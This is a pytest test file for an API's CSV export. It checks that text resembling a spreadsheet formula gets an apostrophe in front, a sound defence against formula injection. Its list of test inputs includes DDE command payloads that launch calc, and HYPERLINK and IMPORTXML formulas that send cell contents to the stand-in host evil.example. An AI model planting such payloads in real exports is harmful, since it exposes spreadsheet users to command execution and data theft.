import csv
import io
import json
import re
import unicodedata
from dataclasses import replace
from decimal import Decimal
from typing import Any

import httpx
import pytest
from hypothesis import given, strategies as st

from app.api.exports import FORMULAS, TABLES, export
from app.api.exports.columns import Type
from tests.api.exports import told
from tests.holding import Held

HARMLESS = ("Fire", "", "5 - 3", "a=b", "'tis", "“=1”", "…", "1", "'", " ", "(=1)", "#N/A")
NOT_TEXT = {"published_at", "received_at", "value", "low", "high"}
FORMULA_LIKE = (
    "=1+1",
    "+1",
    "-1",
    "@A1",
    "\t1",
    "\r1",
    "\n1",
    "＝1",
    "＋1",
    "－1",
    "＠A1",
    " =1",
    "\u00a0\u2003=1",
    " \n-x",
    "\ufeff=1",
    "\u200b+1",
    "\u202e\xad\x1b@A1",
    "﹦1",
    "﹫A1",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"more")',
    '=DDE("cmd";"/C calc";"x")',
    '+IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "-2+3+cmd|' /C calc'!D2",
    "\t=1",
    "\r\n=1",
    "'=1",
    "''\u3000＝1",
)
_TEXTS = {Type.TEXT, Type.TEXTS, Type.WHOLES}


def read(written: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(written.decode(), newline=""), strict=True))


def rows(resource: str, *chunks: list[bytes]) -> list[dict[str, str]]:
    return read(told.written(export("csv", resource), *chunks))


def cell_of(title: str) -> str:
    return rows("articles", told.articles(replace(told.STORY, title=title)))[0]["title"]


def undone(cell: str) -> str:
    """Follow what callers are told."""
    (pattern,) = re.findall(r"`(\^.+)`", FORMULAS)
    return cell[1:] if re.match(pattern, cell) else cell


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stands_as_it_is(text: str) -> None:
    assert cell_of(text) == text


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_text_like_a_formula_has_an_apostrophe_in_front(text: str) -> None:
    assert cell_of(text) == f"'{text}"


def test_list_like_a_formula_has_an_apostrophe_in_front() -> None:
    (row,) = rows("articles", told.articles(replace(told.STORY, authors=("=1", "=2"))))
    assert row["authors"] == "'=1; =2"


@pytest.mark.parametrize("resource", TABLES)
def test_no_text_of_any_column_begins_a_formula(resource: str, held: Held) -> None:
    columns = [column.name for column in TABLES[resource] if column.type in _TEXTS]
    for text in FORMULA_LIKE:
        documents = [json.dumps(everywhere(json.loads(each), text)).encode() for each in told.RESOURCES[resource]()]
        for row in rows(resource, documents):
            begun = {name for name in columns if row[name].startswith("'") and text.strip() in row[name]}
            assert all(not starts_formula(row[name]) for name in columns), text
            assert begun >= {name for name in columns if text in row[name]}
            held("formulas", len(begun))


def test_no_text_that_was_posted_begins_a_formula(client: httpx.Client, held: Held) -> None:
    for number, text in enumerate(FORMULA_LIKE):
        posted = {
            "text": f"{text}\n“It held,” said Ana Ruiz.",
            "title": text,
            "publisher": text,
            "authors": [text, text],
        }
        made = client.post("/v1/articles", json=posted | {"url": f"https://news.example/{number}"})
        assert made.status_code == 201, made.text
    for resource in ("articles", "claims", "speakers", "findings", f"articles/{made.json()['id']}/revisions"):
        found = read(client.get(f"/v1/{resource}?format=csv").content)
        cells = [cell for row in found for name, cell in row.items() if name not in NOT_TEXT]
        assert not list(filter(starts_formula, cells))
        held("formulas", sum(cell.startswith("'") for cell in cells))


def everywhere(node: Any, text: str) -> Any:
    """Put a text in place of every string, but where it would have to be a number or a time."""
    if isinstance(node, dict):
        return {name: value if name in NOT_TEXT else everywhere(value, text) for name, value in node.items()}
    if isinstance(node, list):
        return [everywhere(each, text) for each in node]
    return text if isinstance(node, str) else node


def starts_formula(cell: str) -> bool:
    """Tell whether the first thing that can be seen of a cell makes it a formula."""
    seen = next((each for each in cell if each in "\t\r\n" or unicodedata.category(each)[0] not in "CZ"), "")
    return bool(seen) and unicodedata.normalize("NFKC", seen) in {*"=+-@\t\r\n"}


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")) | st.from_regex(r"\A'*\s*[=+@-]"))
def test_every_text_can_be_had_back(text: str) -> None:
    assert undone(cell_of(text)) == text


def test_negative_numbers_are_left_alone() -> None:
    figures = (replace(told.EIGHT, value=Decimal(-5)), replace(told.RANGE, low=Decimal("-2.50"), high=Decimal(-1)))
    _, value, interval = rows("claims", told.claims(figures=figures))
    assert (value["value"], interval["low"], interval["high"]) == ("-5", "-2.50", "-1")


def test_exact_numbers_keep_every_digit() -> None:
    values = [row["value"] for row in rows("claims", told.claims())]
    assert values == ["", "8", "15", told.LONG, ""]


def test_interrupted_statement_is_flat() -> None:
    statement, *_ = rows("claims", told.claims())
    first, second = told.STATEMENT.content
    expected = {
        "text": "“We tried eight cases, 15 of them since May,” … “and freed 30 people.”",
        "start": str(first.start),
        "end": str(second.end),
        "spans": f"{first.start}..{first.end}; {second.start}..{second.end}",
        "speaker": "Zoë 王",
        "speaker_mention": "Zoë 王, the\n minister",
        "cue": "said",
        "about": "Zoë 王",
        "confidence": "0.93",
        "value": "",
    }
    assert {name: statement[name] for name in expected} == expected
    assert statement["figures"].count("; ") == 1


def test_figure_is_flat() -> None:
    statement, eight, fifteen, grains, _ = rows("claims", told.claims())
    (finding,) = rows("findings", told.findings())
    assert fifteen["part_of"] == "them"
    assert fifteen["part_of_claim_id"] == eight["id"]
    assert fifteen["statement_id"] == statement["id"]
    assert fifteen["figure_about"] == "defendants; trials"
    assert fifteen["findings"] == finding["id"]
    assert (grains["change_direction"], grains["change_role"]) == ("up", "to")
    assert (grains["as_of"], grains["as_of_text"]) == ("2023-05-04", "as of May 4")
    assert grains["published_at"] == "2023-11-20T08:30:00.123456Z"


def test_finding_is_flat() -> None:
    _, eight, fifteen, *_ = rows("claims", told.claims())
    (finding,) = rows("findings", told.findings())
    first, second = told.FIFTEEN.span.start, told.EIGHT.span.start
    assert finding["expression"] == "15 <= 8"
    assert finding["operands"] == "15; 8"
    assert finding["operand_texts"] == "15; eight"
    assert finding["operand_spans"] == f"{first}..{first + 2}; {second}..{second + 5}"
    assert finding["operand_claim_ids"] == f"{fifteen['id']}; {eight['id']}"
    assert finding["repairs"] == "8 → 18; 15 → 5, 8 → 9"
    assert finding["repair_claim_ids"] == f"{eight['id']}; {fifteen['id']}, {eight['id']}"


def test_speakers_are_flat() -> None:
    ministry, person = rows("speakers", told.speakers())
    assert (ministry["aliases"], ministry["alias_articles"]) == ("MoH; the ministry", "3; 1")
    assert (ministry["also_known_as"], ministry["wikidata"], ministry["version"]) == ("Health", "Q42", "2")
    assert (person["name"], person["aliases"]) == ("Zoë 王", "")


def test_commas_quotes_and_line_ends_stay_inside_their_cell() -> None:
    title = 'A "guest",\r\nin; the\rhall\n'
    written = told.written(export("csv", "articles"), told.articles(replace(told.STORY, title=title)))
    assert read(written)[0]["title"] == title
    assert b'"A ""guest"",\r\nin; the\rhall\n"' in written


@pytest.mark.parametrize("resource", TABLES)
def test_lines_end_as_the_standard_has_it(resource: str) -> None:
    written = told.written(export("csv", resource), told.RESOURCES[resource]())
    assert written.endswith(b"\r\n")
    assert len(read(written)) == len(told.RESOURCES[resource]())


@pytest.mark.parametrize("resource", TABLES)
def test_empty_result_has_the_names_of_the_columns(resource: str) -> None:
    names = ",".join(column.name for column in TABLES[resource])
    assert told.written(export("csv", resource)) == f"{names}\r\n".encode()


def test_chunks_make_one_table() -> None:
    documents = told.claims()
    whole = told.written(export("csv", "claims"), documents)
    assert told.written(export("csv", "claims"), documents[:1], [], documents[1:]) == whole
